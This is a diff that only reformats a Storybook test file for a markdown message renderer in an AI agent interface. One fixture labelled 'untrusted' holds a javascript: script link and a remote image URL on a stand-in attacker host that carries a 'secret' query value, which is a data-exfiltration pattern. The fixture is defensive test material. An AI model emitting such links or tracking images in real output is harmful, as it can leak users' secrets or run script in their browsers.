@@ -6,7 +6,12 @@ import { opencodeSession } from '../test/fixtures/opencode'
 import { highlighted, type PartCase, PartStates } from './support/matrix'
 
 const real = opencodeSession.messages[0]?.parts[0] as TextPartData
-const text = (id: string, value: string, extra: Partial<TextPartData> = {}): TextPartData => ({ ...real, id, text: value, ...extra })
+const text = (id: string, value: string, extra: Partial<TextPartData> = {}): TextPartData => ({
+  ...real,
+  id,
+  text: value,
+  ...extra,
+})
 
 const rich = `# Heading one
 ## Heading two
@@ -59,9 +64,16 @@ const matrix: PartCase<TextPartData>[] = [
   { name: 'headings, lists, table, task list, quote', part: text('p1', rich) },
   { name: 'code in TypeScript, Python and Bash', part: text('p2', code) },
   { name: 'long lines', part: text('p3', long) },
-  { name: 'streaming: unclosed fence and bold mid-token', part: text('p4', 'Here is the fix, **very** import\n\n```ts\nexport function fetchUser(id: string) {\n  return fe'), streaming: true },
+  {
+    name: 'streaming: unclosed fence and bold mid-token',
+    part: text('p4', 'Here is the fix, **very** import\n\n```ts\nexport function fetchUser(id: string) {\n  return fe'),
+    streaming: true,
+  },
   { name: 'streaming: half-typed table', part: text('p5', '| File | Lines |\n|--'), streaming: true },
-  { name: 'synthetic (added by the agent)', part: text('p6', 'Summary of the conversation so far.', { synthetic: true }) },
+  {
+    name: 'synthetic (added by the agent)',
+    part: text('p6', 'Summary of the conversation so far.', { synthetic: true }),
+  },
   {
     name: 'synthetic: an attached file read in for the model, folded',
     part: text(
@@ -76,7 +88,13 @@ const matrix: PartCase<TextPartData>[] = [
     ),
   },
   { name: 'ignored', part: text('p7', 'This message was not sent to the model.', { ignored: true }) },
-  { name: 'untrusted: raw HTML, script link, remote image', part: text('p8', 'Raw <b>html</b> stays text. [A script link](javascript:alert(1)) ![tracker](https://attacker.example/p.png?d=secret)') },
+  {
+    name: 'untrusted: raw HTML, script link, remote image',
+    part: text(
+      'p8',
+      'Raw <b>html</b> stays text. [A script link](javascript:alert(1)) ![tracker](https://attacker.example/p.png?d=secret)',
+    ),
+  },
 ]
 
 const meta = {
@@ -109,7 +127,10 @@ export const CopyCode: Story = {
     await highlighted(canvasElement)
     const canvas = within(canvasElement)
     const copied: string[] = []
-    Object.defineProperty(navigator, 'clipboard', { value: { writeText: (text: string) => Promise.resolve(void copied.push(text)) }, configurable: true })
+    Object.defineProperty(navigator, 'clipboard', {
+      value: { writeText: (text: string) => Promise.resolve(void copied.push(text)) },
+      configurable: true,
+    })
     await userEvent.click(canvas.getByRole('button', { name: 'Copy code' }))
     await expect(await canvas.findByText('Copied')).toBeVisible()
     await expect(copied).toEqual(['npm ci && npm test'])
@@ -133,7 +154,10 @@ export const DarkChinese: Story = {
  */
 export const ShownAsWritten: Story = {
   args: {
-    part: text('p11', `The model answered with a **formatted** paragraph, then this:\n\n${'- '.repeat(120)}deep\n\nAnd went on, *formatted* again.`),
+    part: text(
+      'p11',
+      `The model answered with a **formatted** paragraph, then this:\n\n${'- '.repeat(120)}deep\n\nAnd went on, *formatted* again.`,
+    ),
   },
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement)
@@ -185,7 +209,11 @@ export const StepsWithCode: Story = {
       component={TextPart}
       cases={[
         { name: 'finished', part: text('p12', steps) },
-        { name: 'streaming: the second step’s code being written', part: text('p13', steps.slice(0, steps.indexOf('--batch'))), streaming: true },
+        {
+          name: 'streaming: the second step’s code being written',
+          part: text('p13', steps.slice(0, steps.indexOf('--batch'))),
+          streaming: true,
+        },
       ]}
     />
   ),
@@ -210,7 +238,8 @@ export const StepsWithCode: Story = {
 const plan = [
   ...Array.from(
     { length: 12 },
-    (_, i) => `${i + 1}. ${['Read the cursor.', 'Fetch the page of changes since it.', 'Apply each change in order, in one transaction, and store the new cursor with it.'][i % 3]}`,
+    (_, i) =>
+      `${i + 1}. ${['Read the cursor.', 'Fetch the page of changes since it.', 'Apply each change in order, in one transaction, and store the new cursor with it.'][i % 3]}`,
   ),
   '',
   'Then, once every client has synced:',
@@ -238,6 +267,9 @@ export const NumberedPastNine: Story = {
     const [twelve, ten] = finished.getAllByRole('list') as HTMLOListElement[]
     await expect(within(twelve as HTMLElement).getAllByRole('listitem')).toHaveLength(12)
     await expect(ten?.start).toBe(10)
-    for (const list of [twelve, ten] as HTMLOListElement[]) await expect(parseFloat(getComputedStyle(list).paddingLeft)).toBeGreaterThan(parseFloat(getComputedStyle(list).fontSize) * 2)
+    for (const list of [twelve, ten] as HTMLOListElement[])
+      await expect(parseFloat(getComputedStyle(list).paddingLeft)).toBeGreaterThan(
+        parseFloat(getComputedStyle(list).fontSize) * 2,
+      )
   },
 }
